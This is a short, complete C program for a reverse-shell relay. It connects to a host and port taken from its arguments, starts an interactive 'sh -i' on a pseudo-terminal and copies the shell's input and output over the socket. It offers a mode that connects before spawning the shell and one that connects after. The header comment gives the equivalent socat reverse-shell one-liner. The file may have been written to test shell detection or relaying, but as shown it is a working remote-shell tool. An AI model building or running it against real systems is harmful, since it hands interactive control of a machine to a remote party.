// A forkpty reverse-shell relay, as `socat exec:'sh -li',pty,stderr,setsid tcp:HOST:PORT` and
// python's pty.spawn relays are: the shell's fds 0-2 are a pty, the relay holds the master and a
// TCP socket, and copies between them.
// usage: pty_relay connect-first|spawn-first HOST PORT
//   connect-first: connect, then forkpty + exec "sh -i" (the shell starts with the relay connected)
//   spawn-first:   forkpty + exec "sh -i", wait 300 ms, then connect (the relay connects after)
// Exits when either side closes; prints "pty_relay: connect: ERR" if the connect fails.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <pty.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static int connect_to(const char *host, int port)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
    inet_pton(AF_INET, host, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
        printf("pty_relay: connect: %s\n", strerror(errno));
        fflush(stdout);
        return -1;
    }
    return s;
}

int main(int argc, char **argv)
{
    if (argc < 4)
        return 64;
    int connectFirst = strcmp(argv[1], "connect-first") == 0;
    int s = -1;
    if (connectFirst && (s = connect_to(argv[2], atoi(argv[3]))) < 0)
        return 1;
    int master;
    pid_t child = forkpty(&master, NULL, NULL, NULL);
    if (child < 0)
        return 70;
    if (child == 0) {
        execl("/bin/sh", "sh", "-i", (char *)NULL);
        _exit(127);
    }
    if (!connectFirst) {
        usleep(300 * 1000);
        if ((s = connect_to(argv[2], atoi(argv[3]))) < 0) {
            kill(child, SIGKILL);
            return 1;
        }
    }
    struct pollfd p[2] = { { .fd = s, .events = POLLIN }, { .fd = master, .events = POLLIN } };
    char buffer[4096];
    while (poll(p, 2, 10000) > 0) {
        if (p[0].revents & (POLLIN | POLLHUP | POLLERR)) {
            ssize_t n = read(s, buffer, sizeof buffer);
            if (n <= 0)
                break;
            if (write(master, buffer, n) < 0)
                break;
        }
        if (p[1].revents & (POLLIN | POLLHUP | POLLERR)) {
            ssize_t n = read(master, buffer, sizeof buffer);
            if (n <= 0)
                break;
            if (write(s, buffer, n) < 0)
                break;
        }
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 0;
}
